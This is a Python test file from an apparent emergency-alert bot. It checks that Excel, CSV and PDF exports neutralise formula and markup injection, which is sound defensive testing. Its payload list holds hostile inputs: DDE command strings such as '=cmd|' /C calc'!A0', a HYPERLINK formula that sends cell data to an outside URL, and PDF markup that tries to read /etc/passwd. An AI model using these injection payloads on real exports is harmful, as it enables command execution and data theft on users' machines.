"""What people type into names, reasons and reports never runs as a formula in an export.

Every export is found by what it imports, so that a new one must be tried here.
"""

from __future__ import annotations

import csv
import re
import zipfile
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from alerts import call_store
from alerts.acknowledge import by_button
from alerts.calls import Report
from alerts.closing import close
from alerts.follow_up import discharge, report
from alerts.loop.tasks.model import Note, TaskEvent, TaskEventKind
from alerts.model import Draft, Hazard, Level
from alerts.release import release
from alerts.report_facts import report_facts
from alerts.rules import Rules
from alerts.silence import Ringing
from alerts.test_calls.model import Outcome, Result
from bot.views.clock import BEIJING
from bot.views.report import xlsx
from bot.views.report.daily_lines import DailySheets
from bot.views.report.daily_xlsx import as_daily_xlsx
from bot.views.report.ledger import as_ledger
from bot.views.report.xlsx import as_xlsx
from bot.views.tasks.workbook import TaskBook, task_workbook
from bot.views.test_call_sheet import sheet_of_test
from bot.views.test_calls import Tested as Shown
from bot.views.warnings.silent_list import SilentCall
from bot.views.warnings.silent_sheet import as_sheet
from contacts import people_store
from contacts.channels import Channel
from contacts.divisions.store import load_gazetteer
from data.database import Database
from data.tables.contacts import people
from tests.roster import COUNTY, COUNTY_COMMANDER, COUNTY_DUTY, NOW, VILLAGERS
from tests.unit.views.daily_screens import PARTS, SAID
from tests.unit.views.daily_screens import report as report_of_day
from tests.unit.views.samples import CALL, GAZETTEER, VILLAGER
from tests.unit.views.task_screens import TASK
from tests.unit.views.testcall_screens import LINE, TEST, TOTAL

ROOT = Path(__file__).parents[2]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'", '"', "%", "|")
PAYLOADS = [
    *(f"{start}HYPERLINK(1)" for start in STARTS),
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"按这里")',
    "+8613900000000",
    "-2+3+cmd|'x'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "a\r\n=1+1",
    "<b>=1+1</b>",
]
RULES = Rules()


@pytest.mark.parametrize("store_kind", ["sqlite"])  # the words come out of both as they went in
@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_report_of_a_warning(database: Database, payload: str) -> None:
    """The payload in every field that a person fills in."""
    stored = payload.replace("\x00", "")  # PostgreSQL keeps none, Telegram sends none

    def unit(c: Any) -> int:
        named = people.update().where(people.c.id.in_([row["id"] for row in VILLAGERS]))
        c.execute(named.values(name=stored))
        by = people_store.person(c, COUNTY_COMMANDER["id"])
        assert by is not None
        draft = Draft(Level.RED, Hazard.RAINSTORM, (COUNTY,), f"{stored}x", headline=stored)
        alert_id = release(c, draft, by, RULES, NOW).alert_id
        first, second = (call_store.call_of(c, alert_id, VILLAGERS[n]["id"]) for n in (0, 1))
        assert first is not None and second is not None
        by_button(c, first.id, VILLAGERS[0]["telegram_id"], RULES, NOW)
        text = f"{stored}y"
        report(c, first.id, VILLAGERS[0]["telegram_id"], Report.CANNOT, NOW, text=text)
        discharge(c, second.id, COUNTY_DUTY["telegram_id"], f"{stored}z", NOW)
        close(c, alert_id, by, f"{stored}w", NOW)
        return alert_id

    alert_id = database.do(unit)
    gazetteer = database.read(load_gazetteer)
    facts = database.read(lambda c: report_facts(c, alert_id, gazetteer))
    ledger = as_ledger(facts, gazetteer, stored, "zh", NOW, RULES.zone)
    for content in (as_xlsx(facts, "zh", RULES.zone), ledger):
        assert letters(harmless(content)).count(letters(stored)) >= 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_list_of_who_has_not_answered(payload: str) -> None:
    person = replace(VILLAGER, name=payload)
    ringing = Ringing(CALL.id, 5, payload, NOW)
    row = SilentCall(CALL, person, payload, stand_in=payload, ringing=ringing)
    content = as_sheet([row], {CALL.id}, "zh", NOW)
    assert letters(harmless(content)).count(letters(payload)) >= 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_results_of_a_test_call(payload: str) -> None:
    line = LINE._replace(channel=Channel.EMAIL, address=payload)
    tested = Shown(Result(line, Outcome.PROVEN, None, 1, 2.0), payload, payload)
    content = sheet_of_test(TEST, TOTAL, [(TOTAL, payload)], [tested], payload, "zh", BEIJING)
    assert letters(harmless(content)).count(letters(payload)) >= 4


def letters(text: str) -> str:
    return "".join(filter(str.isalnum, text))


def cells_of(content: bytes) -> list[Any]:
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def harmless(content: bytes) -> str:
    """Nothing in the workbook computes or leads out of it; what is written in it."""
    cells = cells_of(content)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str) and cell.value[:1] in xlsx.RISKY:
            # As text, and it stays text when the sheet is saved as CSV and opened again.
            assert cell.data_type == "s" and cell.quotePrefix, cell.value
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name
            assert not re.search(r"external|vba|ddeLink|oleObject", name, re.IGNORECASE), name
    return "".join(str(cell.value) for cell in cells)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_lists_of_tasks(payload: str) -> None:
    task = replace(TASK, title=payload, measure=payload, created_by=1, taken_by=1)
    said = TaskEvent(task.id, TaskEventKind.PROGRESS, NOW, by=1, note=Note(payload))
    book = TaskBook([task], [said], {1: payload, 5: payload}, lambda _: payload, NOW, BEIJING)
    content = task_workbook(book)
    assert letters(harmless(content)).count(letters(payload)) >= 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_remarks_of_a_daily_report(payload: str) -> None:
    said = replace(SAID, remark=replace(SAID.remark, words=payload), by=payload)
    content = as_daily_xlsx(DailySheets(report_of_day(PARTS), GAZETTEER, (said,)))
    assert letters(harmless(content)).count(letters(payload)) >= 2


@hypothesis_settings(max_examples=50)
@given(st.lists(st.text(max_size=12).map(lambda text: f"={text}") | st.text(max_size=12)))
def test_any_text_at_all(texts: list[str]) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    xlsx.fill(sheet, [["a"], *([text] for text in texts)], (10,))
    content = BytesIO()
    book.save(content)
    harmless(content.getvalue())


WRITERS = re.compile(r"csv\.(writer|DictWriter)|\.writerow|Workbook\(\s*\)|xlsxwriter|to_csv")


def test_there_is_no_other_export() -> None:
    """A new one fails here: add it above, and then to the list."""
    found = {
        str(file.relative_to(ROOT))
        for package in ("bot", "alerts", "contacts", "data")
        for file in (ROOT / package).rglob("*.py")
        if WRITERS.search(file.read_text(encoding="utf-8"))
    }
    # The demonstration roster is made of our own words and written for our own import; the list to
    # be filled in holds codes and names of divisions, which no import takes when they compute.
    assert found == {
        "bot/views/report/ledger.py",
        "bot/views/report/xlsx.py",
        "bot/views/roster/template_sheet.py",
        "bot/views/test_call_sheet.py",
        "bot/views/warnings/silent_sheet.py",
        "bot/sandbox/cast/roster.py",
        "bot/sandbox/cast/evacuation.py",  # a demonstration, too
        "bot/sandbox/cast/watches.py",  # telephone numbers and times of the demonstration
        "bot/views/tasks/workbook.py",
        "bot/views/report/daily_xlsx.py",
    }


def test_the_demonstration_roster_holds_no_formula() -> None:
    from bot.sandbox.cast import roster as demo_roster

    text = Path(demo_roster.__file__).read_text(encoding="utf-8")
    for row in csv.reader(text.splitlines()[:400]):
        assert not [cell for cell in row if cell.startswith("=")]


def test_the_pdf_takes_markup_as_words(database: Database) -> None:
    """reportlab reads a markup of its own: a name must not be able to open a tag or a file."""
    from bot.views.report.pdf import as_pdf

    evil = '<img src="file:///etc/passwd"/><a href="http://x">x</a>&<b>'

    def unit(c: Any) -> int:
        c.execute(people.update().where(people.c.id == VILLAGERS[0]["id"]).values(name=evil))
        by = people_store.person(c, COUNTY_COMMANDER["id"])
        assert by is not None
        draft = Draft(Level.RED, Hazard.RAINSTORM, (COUNTY,), evil, headline=evil)
        return release(c, draft, by, RULES, NOW).alert_id

    alert_id = database.do(unit)
    gazetteer = database.read(load_gazetteer)
    facts = database.read(lambda c: report_facts(c, alert_id, gazetteer))
    content = as_pdf(replace(facts), "zh", RULES.zone)
    assert content.startswith(b"%PDF")
    for word in (b"/URI", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"root:"):
        assert word not in content
